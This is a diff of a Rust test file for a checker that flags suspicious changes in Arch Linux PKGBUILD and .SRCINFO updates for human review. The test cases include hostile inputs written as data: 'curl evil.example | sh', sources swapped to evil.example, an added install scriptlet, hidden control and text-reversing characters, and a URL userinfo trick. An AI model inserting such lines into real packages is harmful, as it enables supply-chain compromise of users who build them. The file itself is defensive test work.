@@ -281,7 +281,7 @@ fn lines_that_may_run_need_a_person() {
         ("a function is added", "line-changed", |u| u.pkgbuild("prepare() {", "install() { :; }\nprepare() {")),
         ("a command is added", "line-changed", |u| u.pkgbuild("patch -Np1", "curl evil.example | sh; patch -Np1")),
         ("a command follows the last line", "line-changed", |u| {
-            u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nid")
+            u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nid");
         }),
         ("the last line feed is dropped", "line-changed", |u| u.pkgbuild("=tool.install\n}\n", "=tool.install\n}")),
         ("indentation changes", "line-changed", |u| u.pkgbuild("  patch -Np1", "\tpatch -Np1")),
@@ -292,7 +292,7 @@ fn lines_that_may_run_need_a_person() {
             u.pkgbuild("https://example.org/tool/$p", "https://evil.example/tool/$p");
         }),
         ("a source is added", "line-changed", |u| {
-            u.pkgbuild("fix.patch)", "fix.patch evil::git+https://evil.example)")
+            u.pkgbuild("fix.patch)", "fix.patch evil::git+https://evil.example)");
         }),
         ("a dependency is added", "line-changed", |u| u.pkgbuild("depends=('glibc')", "depends=('glibc' 'npm')")),
         ("a scriptlet is named", "line-changed", |u| u.pkgbuild("license=('MIT')", "install=evil.install")),
@@ -305,7 +305,7 @@ fn bytes_that_do_not_show_need_a_person() {
     need_a_person(&[
         ("a carriage return", "control-characters", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\r")),
         ("a carriage return in checksums", "control-characters", |u| {
-            u.pkgbuild("# the signature", "# the signature\r")
+            u.pkgbuild("# the signature", "# the signature\r");
         }),
         ("a null byte", "control-characters", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\0")),
         ("text that turns around", "control-characters", |u| u.pkgbuild("A tool", "A \u{202e}loot")),
@@ -359,14 +359,14 @@ fn a_srcinfo_that_says_something_else_needs_a_person() {
         ("an array of checksums more", "srcinfo-disagrees", |u| u.srcinfo("\tlicense", "\tmd5sums = SKIP\n\tlicense")),
         ("another dependency", "srcinfo-disagrees", |u| u.srcinfo("depends = glibc", "depends = glibc-evil")),
         ("a dependency more", "srcinfo-disagrees", |u| {
-            u.srcinfo("\tarch = x86_64", "\tdepends = npm\n\tarch = x86_64")
+            u.srcinfo("\tarch = x86_64", "\tdepends = npm\n\tarch = x86_64");
         }),
         ("another source", "srcinfo-disagrees", |u| u.srcinfo("tool-1.3.0.tar.gz\n", "tool-1.4.0.tar.gz\n")),
         ("another host", "srcinfo-disagrees", |u| u.srcinfo("= https://example", "= https://example1")),
         ("a user before the host", "srcinfo-disagrees", |u| u.srcinfo("= https://example", "= https://1.3.0@example")),
         ("another package", "srcinfo-disagrees", |u| u.srcinfo("pkgname = tool-docs", "pkgname = tool-doc")),
         ("a package more", "srcinfo-disagrees", |u| {
-            u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\npkgname = x\n")
+            u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\npkgname = x\n");
         }),
         ("it replaces something", "srcinfo-disagrees", |u| {
             u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\n\treplaces = glibc\n");
@@ -386,8 +386,11 @@ fn a_srcinfo_that_says_something_else_needs_a_person() {
 const EVERYDAY: &[&str] =
     &["srcinfo-regenerated", "version-forward", "release-reset", "checksum-updated", "checksum-updated"];
 
-/// Updates that only move versions and checksums, with the codes of all their reasons.
-const GOES_THROUGH: &[(&str, &[&str], fn(&mut Update))] = &[
+/// A name, the codes of all reasons, and what is done to an ordinary update.
+type Through = (&'static str, &'static [&'static str], fn(&mut Update));
+
+/// Updates that only move versions and checksums.
+const GOES_THROUGH: &[Through] = &[
     ("nothing changes", &[], |u| *u = Update::none()),
     ("the everyday update", EVERYDAY, |_| {}),
     ("only the version", &["srcinfo-regenerated", "version-forward"], |u| {
@@ -557,7 +560,8 @@ fn a_reason_names_the_line_and_both_texts() {
 
 #[test]
 fn hostile_sizes_take_bounded_time() {
-    let values: String = (0..20_000).map(|number| format!("\tsource = {number}{}\n", "1".repeat(40))).collect();
+    let values: Vec<_> = (0..20_000).map(|number| format!("\tsource = {number}{}\n", "1".repeat(40))).collect();
+    let values = values.concat();
     let arrays = "sha256sums=(\n".repeat(100_000);
     for text in ["x".repeat(1_000_000), arrays, "(".repeat(500_000), "'".repeat(500_000), "pkgver=".repeat(100_000)] {
         let mut update = Update::ordinary();
